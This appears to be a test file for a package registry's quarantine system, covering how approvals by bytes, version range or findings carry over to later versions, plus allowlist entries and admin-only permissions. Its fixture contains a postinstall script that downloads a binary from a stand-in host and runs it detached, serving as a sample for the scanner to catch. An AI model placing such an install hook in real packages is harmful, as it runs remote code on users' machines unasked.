import { describe, expect, test } from "vitest";
import { openChannel } from "../support/channel.ts";
import { startClock } from "../support/clock.ts";
import { startRegistry, type TestRegistry } from "../support/registry.ts";
import { hookFiles, hookManifest, recordOf, rule } from "../support/review.ts";

/** Held by several findings, none of which proves harm alone. */
async function publishInstaller(registry: TestRegistry, version: string): Promise<number> {
  const files = {
    "setup.js": `// ${version}
const https = require("https");
https.get("https://files.example/bin", (r) => r.pipe(require("fs").createWriteStream("bin")));
require("child_process").spawn("./bin", { detached: true, stdio: "ignore" });
`,
  };
  const manifest = { scripts: { postinstall: "node setup.js" } };
  return (await registry.publish("lib", version, files, { manifest })).status;
}

const approve = async (registry: TestRegistry, more: object) =>
  await rule(registry, "lib@1.0.0", "approve", more);

describe("an approval", () => {
  test("of the bytes alone holds the next version", async () => {
    await using registry = await startRegistry();
    expect(await publishInstaller(registry, "1.0.0")).toBe(403);
    const body = await (await approve(registry, {})).json();
    expect(body).not.toHaveProperty("beyond");
    expect(await publishInstaller(registry, "1.0.1")).toBe(403);
  });

  test("of a range lets versions inside of it pass with a warning, and no other", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    const approved = await approve(registry, { scope: "range", range: "^1.0.0" });
    expect(await approved.json()).toMatchObject({
      state: "approved",
      beyond: { pattern: "lib@^1.0.0", rules: expect.arrayContaining(["EXE-02"]), stillHolds: [] },
    });
    expect(await publishInstaller(registry, "1.4.0")).toBe(201);
    expect(await publishInstaller(registry, "2.0.0")).toBe(403);
    expect((await registry.tarball("lib", "1.4.0")).status).toBe(200);
  });

  test("of findings lets them pass in every version, but nothing new and no proof of harm", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    await approve(registry, { scope: "findings" });
    expect(await publishInstaller(registry, "2.0.0")).toBe(201);
    const worse = await registry.publish("lib", "3.0.0", hookFiles, { manifest: hookManifest });
    expect(worse.status).toBe(403);
  });

  test("says which findings hold the next version again", async () => {
    await using registry = await startRegistry();
    await registry.publish("lib", "1.0.0", hookFiles, { manifest: hookManifest });
    const { beyond } = (await (await approve(registry, { scope: "findings" })).json()) as {
      beyond: { rules: string[]; stillHolds: string[] };
    };
    expect(beyond.stillHolds).toContain("INS-01");
    expect(beyond.rules).not.toContain("INS-01");
    const next = await registry.publish("lib", "1.0.1", hookFiles, { manifest: hookManifest });
    expect(next.status).toBe(403);
  });

  test("makes an entry wider that is there already, and it can be ended there", async () => {
    await using registry = await startRegistry();
    await using listening = registry.listen();
    await using channel = await openChannel(listening, { token: registry.token });
    await channel.ask("addPackageAllowlistEntry", { pattern: "lib", rules: ["TXT-03"] });
    await publishInstaller(registry, "1.0.0");
    const file = "lib-1.0.0.tgz";
    const given = { file, scope: "findings", note: "reads its own binary" };
    const approved = await channel.ask("approveQuarantine", given);
    expect(approved.data).toMatchObject({ success: true, beyond: { pattern: "lib" } });

    const { data } = await channel.ask("getPackageAllowlist");
    const entries = data["entries"] as { id: string; rules: string[] }[];
    expect(entries).toEqual([
      expect.objectContaining({
        description: "approved with 1.0.0: reads its own binary",
        rules: expect.arrayContaining(["TXT-03", "EXE-02"]),
      }),
    ]);
    expect(await publishInstaller(registry, "1.0.1")).toBe(201);
    await channel.ask("removePackageAllowlistEntry", { id: entries[0]?.id });
    expect(await publishInstaller(registry, "1.0.2")).toBe(403);
  });

  const others = `sha512-${"A".repeat(86)}==`;
  test.each<[string, object, boolean, object]>([
    ["is about one tarball", { integrity: others }, true, {}],
    ["is switched off", {}, false, {}],
    ["is over", { expires_at: "2026-01-02T04:00:00Z" }, true, {}],
    ["ends", { expires_at: "2026-02-02T00:00:00Z" }, true, {}],
    ["never ends", {}, false, { expires_at: "2026-02-02T00:00:00Z" }],
  ])("never lets more pass because an entry for all rules %s", async (_, entry, enabled, until) => {
    const clock = startClock("2026-01-02T03:00:00Z");
    await using registry = await startRegistry({ now: clock.now });
    await using listening = registry.listen();
    await using channel = await openChannel(listening, { token: registry.token });
    await publishInstaller(registry, "1.0.0");
    const { data } = await channel.ask("addPackageAllowlistEntry", { pattern: "lib", ...entry });
    const before = data["entry"] as { id: string };
    await channel.ask("togglePackageAllowlistEntry", { id: before.id, enabled });
    clock.advance(2 * 3600);
    const approved = await approve(registry, { scope: "findings", ...until });
    const { data: after } = await channel.ask("getPackageAllowlist");
    const entries = after["entries"] as { id: string; rules: string[] }[];
    expect(entries.find(({ id }) => id === before.id)).toEqual({ ...before, enabled });
    const added = entries.filter(({ id }) => id !== before.id);
    const { beyond } = (await approved.json()) as { beyond: { rules: string[] } };
    expect(added).toEqual([
      expect.objectContaining({
        rules: beyond.rules,
        integrity: null,
        enabled: true,
        expires_at: "expires_at" in until ? "2026-02-02T00:00:00.000Z" : null,
      }),
    ]);
    expect(beyond.rules.length).toBeGreaterThan(0);
  });

  test("that is repeated adds nothing", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    for (let count = 0; count < 2; count += 1) {
      expect((await approve(registry, { scope: "findings" })).status).toBe(200);
    }
    await using listening = registry.listen();
    await using channel = await openChannel(listening, { token: registry.token });
    expect((await channel.ask("getPackageAllowlist")).data["entries"]).toHaveLength(1);
    const audit = await channel.ask("getAuditLogs", { actions: ["allowlist_add"] });
    expect(audit.data["logs"]).toHaveLength(1);
  });

  test.each([
    ["a range without a scope", { range: "^1.0.0" }],
    ["no range", { scope: "range" }],
    ["what is no range", { scope: "range", range: "not a range!" }],
    ["an unknown scope", { scope: "everything" }],
  ])("with %s changes nothing", async (_, more) => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    expect((await approve(registry, more)).status).toBe(400);
    expect(await recordOf(registry, "lib@1.0.0")).toMatchObject({ state: "held" });
  });

  test("beyond the bytes takes an administrator, and a reviewer's changes nothing", async () => {
    await using registry = await startRegistry();
    await publishInstaller(registry, "1.0.0");
    const json = { scopes: ["read", "review"] };
    const made = await registry.asOwner("/-/admin/tokens", { method: "POST", json });
    const { secret: token } = (await made.json()) as { secret: string };
    const asked = (more: object) =>
      registry.fetch("/-/admin/quarantine/lib@1.0.0/approve", {
        method: "POST",
        token,
        json: { reason: "x", ...more },
      });
    expect((await asked({ scope: "findings" })).status).toBe(403);
    expect(await recordOf(registry, "lib@1.0.0")).toMatchObject({ state: "held" });
    expect((await asked({})).status).toBe(200);
  });
});
